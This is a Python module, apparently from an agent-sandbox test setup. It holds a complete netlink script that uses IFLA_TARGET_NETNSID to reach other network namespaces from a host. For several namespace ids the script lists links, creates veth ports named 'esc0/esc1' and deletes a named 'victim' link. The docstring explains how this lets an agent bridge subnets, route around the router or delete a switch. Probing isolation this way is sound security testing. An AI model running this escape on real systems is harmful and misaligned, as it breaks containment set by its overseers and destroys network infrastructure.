"""A program an agent can run on a node to act on *other* network namespaces.

Every link an agent sees (``h1-eth0@if6 ... link-netnsid 0``) names the namespace of its
peer by a number. rtnetlink accepts such a number (``IFLA_TARGET_NETNSID``) in place of
a namespace to enter, checked only against the caller's capabilities over that
namespace. An agent holding CAP_NET_ADMIN over the host's user namespace could thus list,
create and delete links in the switch fabric from a host: add its own port to another
subnet's bridge and route around ``r0``, or delete a switch. ``SCRIPT`` tries each for
namespace ids 0..3 and prints, as JSON, the result: a negative errno when refused, 0
when done, or the number of links listed.
"""

from __future__ import annotations

__all__ = ["SCRIPT", "command"]

SCRIPT = r'''
import json, socket, struct, sys

def attr(kind, data):
    size = 4 + len(data)
    return struct.pack("=HH", size, kind) + data + b"\0" * (-size % 4)

def request(kind, flags, body):
    sock = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    sock.send(struct.pack("=IHHII", 16 + len(body), kind, flags | 0x5, 1, 0) + body)
    count = 0
    while True:
        data = sock.recv(1 << 16)
        offset = 0
        while offset < len(data):
            length, mtype = struct.unpack_from("=IH", data, offset)
            if mtype == 2:  # NLMSG_ERROR: a negative errno, or 0 for the ACK
                return struct.unpack_from("=i", data, offset + 16)[0] or count
            if mtype == 3:  # NLMSG_DONE, carrying a dump's negative errno
                return struct.unpack_from("=i", data, offset + 16)[0] or count
            count += 1
            offset += (length + 3) & ~3

IFINFO = struct.pack("=BBHiII", 0, 0, 0, 0, 0, 0)
NEWLINK, DELLINK, GETLINK = 16, 17, 18
CREATE_EXCL, DUMP = 0x600, 0x300
results = {}
for nsid in range(4):
    target = attr(46, struct.pack("=i", nsid))  # IFLA_TARGET_NETNSID
    peer = attr(1, IFINFO + attr(3, b"esc1\0"))  # VETH_INFO_PEER with its IFLA_IFNAME
    veth = attr(18, attr(1, b"veth") + attr(2, peer))  # IFLA_LINKINFO: kind, data
    results[nsid] = {
        "dump": request(GETLINK, DUMP, IFINFO + target),
        "create": request(NEWLINK, CREATE_EXCL, IFINFO + attr(3, b"esc0\0") + target + veth),
        "delete": request(DELLINK, 0, IFINFO + attr(3, sys.argv[1].encode() + b"\0") + target),
    }
print(json.dumps(results))
'''


def command(victim: str) -> str:
    """The shell command that runs ``SCRIPT``, trying to delete the link ``victim``."""
    return f"python3 - {victim} <<'EOF'\n{SCRIPT}\nEOF"
